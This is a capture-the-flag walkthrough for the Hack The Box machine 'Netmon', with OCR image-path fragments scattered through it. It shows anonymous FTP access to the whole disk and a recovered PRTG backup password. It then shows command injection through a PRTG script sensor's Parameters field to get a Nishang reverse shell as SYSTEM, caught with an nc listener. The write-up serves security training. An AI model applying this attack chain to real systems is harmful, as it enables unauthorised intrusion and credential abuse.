Netmon - Hack The Box

I think Netmon had the quickest first blood on HTB yet. The user flag could be grabbed by just using anonymous FTP and retrieving it from the userdirectory. I guessed the PRTG admin password after finding an old backup file and changing the year in the password from 2018 to 2019. Once inside PRTG, I got RCE as SYSTEM by creating a sensor and using Nishang’s reverse shell oneliner.


  • We can log in with anonymous FTP and get the user.txt flag directly from the Public user folder
  • There’s a PRTG configuration backup containing an old password that we can download from FTP
  • The PRTG passwordis the almost the same as the one found in the old backup but it ends with 2019 instead of 2018
  • We can get RCE using Powershell scripts running as sensors in PRTG

Detailed steps

Nmap scan

The nmap scan shows that anonymous FTP is allowed and that PRTG is running on the webserver.

# nmap -sC -sV -F
Starting Nmap 7.70 ( ) at 2019-03-02 22:43 EST
Nmap scan report for netmon.htb (
Host is up (0.0090s latency).
Not shown: 95 closed ports
21/tcp  open  ftp          Microsoft ftpd
| ftp-anon: Anonymous FTP login allowed (FTP code 230)
| 02-02-19  11:18PM                 1024 .rnd
| 02-25-19  09:15PM       <DIR>          inetpub
| 07-16-16  08:18AM       <DIR>          PerfLogs
| 02-25-19  09:56PM       <DIR>          Program Files
| 02-02-19  11:28PM       <DIR>          Program Files (x86)| 02-03-19  07:08AM       <DIR>          Users
|_02-25-19  10:49PM       <DIR>          Windows
| ftp-syst:
|_  SYST: Windows_NT
80/tcp  open  http         Indy httpd (Paessler PRTG bandwidth monitor)
|_http-server-header: PRTG/
| http-title: Welcome | PRTG Network Monitor (NETMON)
|_Requested resource was /index.htm
|_http-trane-info: Problem with XML parsing of /evox/about
135/tcp open  msrpc        Microsoft Windows RPC
139/tcp open  netbios-ssn  Microsoft Windows netbios-ssn
445/tcp openmicrosoft-ds Microsoft Windows Server 2008 R2 - 2012 microsoft-ds
Service Info: OSs: Windows, Windows Server 2008 R2 - 2012; CPE: cpe:/o:microsoft:windows

Free flag from FTP

In the nmap scan, the script identified that the FTP server allows anonymous access. Because we’re not constrained to ftproot and we can look around the entire disk of the box, I quickly found a user.txt flag in the c:\users\public folder.

# ftp
Connected to
220 Microsoft FTP Service
Name ( anonymous
331 Anonymous access allowed, send identity (e-mail name) as password.
230 User logged in.
Remote system type isWindows_NT.
ftp> cd /users/public
250 CWD command successful.
ftp> dir
200 PORT command successful.
125 Data connection already open; Transfer starting.
02-03-19  07:05AM       <DIR>          Documents
07-16-16  08:18AM       <DIR>          Downloads
07-16-16  08:18AM       <DIR>          Music
07-16-16  08:18AM       <DIR>          Pictures
02-02-19  11:35PM                   33 user.txt
07-16-16  08:18AM       <DIR>          Videos
226 Transfer complete.
ftp> type binary
200 Type set to I.
ftp> get user.txt
local: user.txt remote: user.txt
200 PORT command successful.
125 Data connection already open; Transfer starting.
226 Transfer complete.
33 bytes received in 0.01 secs (4.5173 kB/s)
ftp> exit
221 Goodbye.

root@ragingunicorn:~/htb/netmon# cat user.txt

I was too slow for first blood, someone else on HTB got user blood in under 2 minutes.

Getting access to PRTG

The PRTG application is running on port 80:

I tried the default credentials prtgadmin / prtgadmin but I got access denied.

Looking in the filesystem, I found that the configuration directory for PRTG is under c:\programdata\paessler.

ftp> cd /programdata
250 CWD command successful.
ftp> ls
200 PORT command successful.
125 Data connection already open; Transfer starting.02-02-19  11:15PM       <DIR>          Licenses
11-20-16  09:36PM       <DIR>          Microsoft
02-02-19  11:18PM       <DIR>          Paessler

I found the configuration file and an old configuration from last year.

ftp> cd "PRTG Network Monitor"
250 CWD command successful.
ftp> ls
200 PORT command successful.
125 Data connection already open; Transfer starting.
02-25-19  09:54PM              1189697 PRTG Configuration.dat
03-02-19  05:33PM              1198465 PRTG Configuration.old
07-14-18  02:13AM              1153755 PRTG Configuration.old.bak

The PRTG Configuration.dat config file contains the credentials for user prtgadmin but they are encrypted (or hashed?) with what seems to be a proprietary method.

When I checked PRTG Configuration.old.bak, I found the dbpassword: PrTg@dmin2018

I tried this password with user prtgadmin on the PRTG login page but it didn’t work. Then I realized that this is from a 2018 backup, maybe the admin is lazy and re-used the dbpassword for the admin account and simply used the current date (2019).

My guess was correct and I was able to log in with password PrTg@dmin2019

RCE through PRTG sensors

PRTG is a monitoring tool that supports a whole suite of sensors, like ping, http, snmp, etc. The server itself has been added in the device list, so it’s safe to assume we can add sensors to it:

Iclicked add sensor on the server then selected EXE/Script sensor.

We can’t add powershell custom scripts because we don’t have write access to the application directory, but we can leverage the Parameters fieldto add additional code at the end of an existing Powershell script. I used Nishang to get a reverse shell. I added a semi colon at the beginning of the parameters, then pasted the Nishang code after.

After the sensor is created, we hitthe play button to execute it.

And we get a shell as nt authority\system. Box done!

# nc -lvnp 4444
listening on [any] 4444 ...
connect to [] from (UNKNOWN) [] 55751

PS C:\Windows\system32> whoami
nt authority\system
PS C:\Windows\system32> typec:\users\administrator\desktop\root.txt